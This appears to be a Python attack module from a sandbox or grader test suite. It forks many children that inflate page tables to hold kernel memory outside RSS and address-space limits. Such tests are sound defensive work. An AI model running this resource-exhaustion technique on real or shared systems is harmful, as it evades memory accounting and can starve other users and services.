import mmap
import os
import resource
import signal
import struct
import time

GIB = 1 << 30
CAP = GIB  # more than the worker's processes can hold in page tables under their address-space limit
MOST_CHILDREN = 2048
MAP_NORESERVE = 0x4000  # x86_64 and aarch64; the mmap module names it from Python 3.13
STRIDE = 1 << 21  # one page-table page maps 2 MiB: one read a stride costs a page-table page and no memory
_outcome = []  # (held bytes, what stopped it), once per process: every later call answers the same


def _status_kib(field):
    with open("/proc/self/status") as handle:
        for line in handle:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    return 0


def _fill_page_tables():
    """In a child: map what is left of its address-space limit read-only (no memory reserved) and read
    one byte a stride: each read maps the kernel's shared zero page, in no process's RSS, and costs a
    page-table page; the page tables' growth in bytes."""
    before = _status_kib("VmPTE")
    limit = resource.getrlimit(resource.RLIMIT_AS)[0]
    left = (limit if limit != resource.RLIM_INFINITY else 64 * GIB) - _status_kib("VmSize") * 1024 - (64 << 20)
    mappings = []
    size = max(left, 0) // STRIDE * STRIDE
    while size >= STRIDE:
        try:
            mappings.append(mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_NORESERVE,
                                      prot=mmap.PROT_READ))
        except (OSError, ValueError):
            size = size // 2 // STRIDE * STRIDE
            continue
        left -= size
        size = min(size, max(left, 0) // STRIDE * STRIDE)
    for mapping in mappings:
        for offset in range(0, len(mapping), STRIDE):
            mapping[offset]
    return (_status_kib("VmPTE") - before) * 1024


def hold_kernel_memory(cap=CAP):
    """Page tables (kernel memory: in no process's RSS and outside RLIMIT_AS) held by as many forked
    children as the worker may have, one after another, until `cap`; (bytes held, what stopped it)."""
    children, total, stopped = [], 0, "reached the cap"
    reader, writer = os.pipe()
    try:
        while total < cap and len(children) < MOST_CHILDREN:
            try:
                pid = os.fork()
            except OSError as error:
                stopped = f"fork: {error.strerror} after {len(children)} children"
                break
            if pid == 0:
                os.close(reader)
                try:
                    held = _fill_page_tables()
                except BaseException:  # noqa: BLE001 - the parent must hear from every child
                    held = 0
                os.write(writer, struct.pack("<Q", held))
                while True:
                    time.sleep(60)
            children.append(pid)
            got = os.read(reader, 8)
            if len(got) < 8:
                stopped = "a child died before it said how much it held"
                break
            total += struct.unpack("<Q", got)[0]
    finally:
        for pid in children:
            try:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
            except OSError:
                pass
        os.close(reader)
        os.close(writer)
    return total, stopped


def attack(args):
    """Hold the memory once; if it could, answer honestly (so the attack shows as full marks where it must
    lose them), else fail saying what stopped it."""
    if not _outcome:
        _outcome.append(hold_kernel_memory())
    held, stopped = _outcome[0]
    if held < CAP:
        raise MemoryError(f"held only {held / GIB:.2f} GiB of page tables in forked children ({stopped})")
    return None  # the function's own body runs on
